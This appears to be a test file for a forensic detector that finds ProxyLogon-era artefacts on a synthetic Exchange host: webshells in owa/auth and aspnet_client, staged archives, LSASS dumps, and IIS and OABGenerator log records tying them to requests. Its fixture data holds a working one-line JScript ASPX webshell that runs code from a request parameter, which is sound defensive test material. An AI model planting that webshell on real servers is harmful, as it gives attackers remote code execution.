"""The file detector on a small synthetic host: grading (suspicious / confirmed), joins with IIS requests
and with the path a CVE-2021-26858 OABGenerator line says was written, evidence, determinism."""

from __future__ import annotations

import hashlib

from contentfixtures import shipped_file_rules
from exhunt.detectors.base import HostContext
from exhunt.detectors.files.detector import FileDetector, escape_head, windows_path_key
from exhunt.detectors.files.rules import FileRuleSet
from exhunt.detectors.files.samples import MemoryTree
from exhunt.model.coverage import HostCoverage
from exhunt.model.event import Record
from exhunt.model.evidence import Artifact, ArtifactKind
from exhunt.model.finding import Finding, Outcome, Severity

V15 = "C/Program Files/Microsoft/Exchange Server/V15"
SHELL = b'<script language="JScript" runat="server">function Page_Load(){eval(Request["a"],"unsafe");}</script>'
FILES = {  # synthetic host
    f"{V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx": b"<%@ Page stock %>",
    f"{V15}/FrontEnd/HttpProxy/owa/auth/ohyeah.aspx": SHELL,
    f"{V15}/FrontEnd/HttpProxy/owa/auth/15.1.2106/themes/resources/logo.png": b"\x89PNG\r\n",
    "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/shell.aspx": SHELL,
    "C/inetpub/wwwroot/aspnet_client/discover.aspx": SHELL,
    "C/ProgramData/out.zip": b"Rar!\x1a\x07\x01\x00secret",
    "C/ProgramData/backup.7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "C/Windows/Temp/lsass.dmp": b"MDMP\x93\xa7\x00\x00",
    "C/Windows/Temp/x.dmp": b"MDMP\x93\xa7\x00\x00",
    "C/Windows/Minidump/112920-01.dmp": b"MDMP\x93\xa7\x00\x00",
}
MTIME = "2021-03-03T04:05:06Z"


def _iis(line: int, stem: str, ip: str, stamp: str) -> Record:
    raw = f"{stamp[:10]} {stamp[11:19]} 10.0.0.5 POST {stem} - 443 - {ip} ExchangeServicesClient/0.0.0.0 - 200 0 0 12"
    return Record(ArtifactKind.IIS, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
                  {"cs-method": "POST", "cs-uri-stem": stem, "c-ip": ip, "sc-status": "200"},
                  raw=raw, line=line, offset=line * 100, timestamp=stamp)


def _oab(line: int, written: str) -> Record:
    text = (f"2021-03-03T04:06:00.000Z,Error,Download failed and temporary file '{written}' "
            "needs to be removed")
    return Record(ArtifactKind.OABGENERATOR, "C/Program Files/Microsoft/Exchange Server/V15/Logging/"
                  "OABGeneratorLog/OABGenerator20210303-1.LOG", {"Line": text}, raw=text, line=line,
                  offset=0, timestamp="2021-03-03T04:06:00Z")


def _run(records: list[Record], files: dict[str, bytes] = FILES) -> tuple[list[Finding], HostContext]:
    tree = MemoryTree(files, name="ex01")
    artifacts = [Artifact(ArtifactKind.FILE, e.path, e.size, MTIME) for e in tree.walk()]
    ctx = HostContext(host="ex01", tree=tree, artifacts=artifacts, coverage=HostCoverage())
    detector = FileDetector(shipped_file_rules())
    detector.start(ctx)
    for record in records:
        interest = detector.interest(record.kind)
        assert interest is not None and interest.literals is not None
        if any(lit.lower() in record.raw.lower() for lit in interest.literals):
            detector.on_record(record, ctx)
    for artifact in artifacts:
        detector.on_file(artifact, ctx)  # already matched in start: no double findings
    return detector.finish(ctx), ctx


def _by(findings: list[Finding]) -> dict[tuple[str, str], Finding]:
    return {(f.rule_id, f.attr_values("path")[0]): f for f in findings}


def test_files_alone_are_suspicious() -> None:
    findings, ctx = _run([])
    got = sorted(_by(findings))
    assert got == sorted([
        ("EXH-FILE-ARCHIVE-PROGRAMDATA", "C/ProgramData/backup.7z"),
        ("EXH-FILE-ARCHIVE-PROGRAMDATA", "C/ProgramData/out.zip"),
        ("EXH-FILE-LSASS-DUMP", "C/Windows/Temp/lsass.dmp"),
        ("EXH-FILE-MINIDUMP-STAGED", "C/Windows/Temp/lsass.dmp"),
        ("EXH-FILE-MINIDUMP-STAGED", "C/Windows/Temp/x.dmp"),
        ("EXH-FILE-WEBSHELL-ASPNET-CLIENT", "C/inetpub/wwwroot/aspnet_client/discover.aspx"),
        ("EXH-FILE-WEBSHELL-ASPNET-CLIENT", "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/shell.aspx"),
        ("EXH-FILE-WEBSHELL-EXCHANGE-AUTH", f"{V15}/FrontEnd/HttpProxy/owa/auth/ohyeah.aspx"),
    ])
    assert all(f.outcome is Outcome.SUSPICIOUS for f in findings)
    assert ctx.coverage.warnings == []
    shell = _by(findings)[("EXH-FILE-WEBSHELL-EXCHANGE-AUTH", f"{V15}/FrontEnd/HttpProxy/owa/auth/ohyeah.aspx")]
    assert shell.severity is Severity.HIGH
    assert shell.attack == ("T1505.003",)
    assert set(shell.attr_values("file_name")) == {"ohyeah.aspx"}
    assert shell.attr_values("step") == ["webshell-write"] and shell.attr_values("family") == ["proxylogon"]
    ref = shell.evidence[0]
    assert ref.sha256 == hashlib.sha256(SHELL).hexdigest()
    assert ref.timestamp == MTIME and shell.first_seen == MTIME
    assert ref.excerpt.startswith('<script language="JScript"')
    assert f"{len(SHELL)} bytes" in ref.note


def test_archive_content_versus_extension() -> None:
    findings = _by(_run([])[0])
    lying = findings[("EXH-FILE-ARCHIVE-PROGRAMDATA", "C/ProgramData/out.zip")]
    assert lying.attr_values("content_type") == ["RAR archive"]
    assert lying.attr_values("extension_mismatch") == ["true"]
    assert "extension lies" in lying.evidence[0].note
    honest = findings[("EXH-FILE-ARCHIVE-PROGRAMDATA", "C/ProgramData/backup.7z")]
    assert honest.attr_values("extension_mismatch") == ["false"]
    assert honest.attr_values("step") == ["staging"] and "T1560.001" in honest.attack


def test_requested_file_is_confirmed_with_clients_and_window() -> None:
    records = [
        _iis(10, "/owa/auth/logon.aspx", "10.1.1.1", "2021-03-03T04:00:00Z"),
        _iis(11, "/owa/auth/ohyeah.aspx", "203.0.113.7", "2021-03-03T05:00:00Z"),
        _iis(12, "/owa/auth/ohyeah.aspx", "198.51.100.9", "2021-03-04T06:00:00Z"),
        _iis(13, "/ecp/ohyeah.aspx", "198.51.100.10", "2021-03-04T07:00:00Z"),  # not the auth folder
    ]
    findings, _ = _run(records)
    shell = _by(findings)[("EXH-FILE-WEBSHELL-EXCHANGE-AUTH", f"{V15}/FrontEnd/HttpProxy/owa/auth/ohyeah.aspx")]
    assert shell.outcome is Outcome.CONFIRMED and shell.severity is Severity.CRITICAL
    assert shell.attr_values("client_ip") == ["198.51.100.9", "203.0.113.7"]
    assert shell.attr_values("tied_by") == ["iis-request"]
    assert shell.attr_values("url") == ["/owa/auth/ohyeah.aspx"]
    assert shell.attr_values("http_status") == ["200"]
    assert "Requested over HTTP as /owa/auth/ohyeah.aspx 2 time(s)" in shell.description
    assert (shell.first_seen, shell.last_seen) == ("2021-03-03T04:05:06Z", "2021-03-04T06:00:00Z")
    assert [e.line for e in shell.evidence[1:]] == [11, 12]
    assert shell.evidence_total == 3
    others = [f for f in findings if f is not shell]
    assert all(f.outcome is Outcome.SUSPICIOUS for f in others)


def test_iis_interest_names_only_the_files_found() -> None:
    tree = MemoryTree(FILES)
    artifacts = [Artifact(ArtifactKind.FILE, e.path, e.size) for e in tree.walk()]
    ctx = HostContext(host="h", tree=tree, artifacts=artifacts, coverage=HostCoverage())
    detector = FileDetector(shipped_file_rules())
    detector.start(ctx)
    interest = detector.interest(ArtifactKind.IIS)
    assert interest is not None
    assert interest.literals == frozenset({"/ohyeah.aspx", "/shell.aspx", "/discover.aspx"})
    clean = FileDetector(shipped_file_rules())
    clean.start(HostContext(host="h", tree=MemoryTree({}), artifacts=[], coverage=HostCoverage()))
    assert clean.interest(ArtifactKind.IIS) is None
    oab = clean.interest(ArtifactKind.OABGENERATOR)
    assert oab is not None and oab.literals == frozenset({"temporary file '"})


def test_written_path_confirms_the_file() -> None:
    records = [
        _oab(5, r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\a.xml"),
        _oab(7, r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx"),
    ]
    findings, _ = _run(records)
    shell = _by(findings)[("EXH-FILE-WEBSHELL-ASPNET-CLIENT", "C/inetpub/wwwroot/aspnet_client/discover.aspx")]
    assert shell.outcome is Outcome.CONFIRMED
    assert shell.attr_values("written_path") == [r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx"]
    assert shell.attr_values("tied_by") == ["written-path:oab-temporary-file"]
    assert shell.evidence[1].line == 7 and "needs to be removed" in shell.evidence[1].excerpt
    other = _by(findings)[("EXH-FILE-WEBSHELL-ASPNET-CLIENT",
                           "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/shell.aspx")]
    assert other.outcome is Outcome.SUSPICIOUS


def test_unreadable_file_is_a_warning_not_a_crash() -> None:
    tree = MemoryTree({})
    artifact = Artifact(ArtifactKind.FILE, "C/ProgramData/gone.zip", 10)
    ctx = HostContext(host="h", tree=tree, artifacts=[artifact], coverage=HostCoverage())
    detector = FileDetector(shipped_file_rules())
    detector.start(ctx)
    (finding,) = detector.finish(ctx)
    assert finding.attr_values("content_type") == ["unreadable"]
    assert [w.path for w in ctx.coverage.warnings][:1] == ["C/ProgramData/gone.zip"]


def test_same_input_same_output() -> None:
    first = [f.to_dict() for f in _run([_iis(11, "/owa/auth/ohyeah.aspx", "203.0.113.7", "2021-03-03T05:00:00Z")])[0]]
    second = [f.to_dict() for f in _run([_iis(11, "/owa/auth/ohyeah.aspx", "203.0.113.7", "2021-03-03T05:00:00Z")],
                                        dict(reversed(FILES.items())))[0]]
    assert first == second


def test_helpers() -> None:
    assert escape_head(b"MDMP\x93\xa7\r\n\\") == "MDMP\\x93\\xa7\\r\\n\\\\"
    assert windows_path_key(r"\\?\C:\inetpub\wwwroot\A.aspx") == "c/inetpub/wwwroot/a.aspx"
    assert windows_path_key(r"\\EX01\D$\x\\y.aspx") == "d/x/y.aspx"
    assert windows_path_key('"C:\\a\\b"') == "c/a/b"


def test_signature_beyond_the_excerpt_head_is_read() -> None:
    from exhunt.detectors.files.rules import load_text
    from exhunt.model.coverage import InputWarning

    text = """
magic:
  deep: {offset: 1000, hex: "cafe", extensions: [.bin]}
rules:
  - id: EXH-TEST-DEEP
    title: deep magic
    family: test
    step: staging
    severity: low
    magic: {mode: require, any: [deep]}
    samples:
      positive: [{path: "C/x.bin", head_hex: "00"}]
      negative: [{path: "C/y.bin", head_hex: "00"}]
"""
    errors: list[InputWarning] = []
    rules = FileRuleSet()
    load_text(text, "t.yaml", rules, errors)
    assert errors == []
    from exhunt.detectors.files.samples import scan_files

    found = scan_files(rules, {"C/x.bin": b"\0" * 1000 + b"\xca\xfe", "C/y.bin": b"\0" * 1002})
    assert [f.attr_values("path") for f in found] == [["C/x.bin"]]
